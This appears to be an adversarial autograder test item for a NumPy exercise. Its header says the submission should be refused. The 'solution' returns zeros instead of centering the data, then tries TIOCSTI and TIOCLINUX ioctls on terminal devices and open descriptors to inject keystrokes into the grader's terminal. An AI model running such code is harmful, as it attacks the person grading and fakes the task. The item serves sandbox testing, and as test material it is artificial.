# exercise: broadcasting_rules/center
# tries: to type into the terminal of the person who grades
# must: the call is refused; the class goes on
# seen: thought up for this collection, 2026-11
# stock: no: it would type into the terminal
# %% solution
import numpy as np
def center(X, axis):
    return np.zeros(np.shape(X))
import fcntl, os, termios
places = list(range(64))
for name in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0"):
    try:
        places.append(os.open(name, os.O_RDWR | os.O_NOCTTY))
    except OSError as error:
        print(error.errno)
for place in places:
    for request, argument in ((termios.TIOCSTI, b"x"), (0x541C, b"\x03")):  # TIOCLINUX
        try:
            fcntl.ioctl(place, request, argument)
            print("taken".upper(), place, request)
        except (OSError, ValueError):
            pass
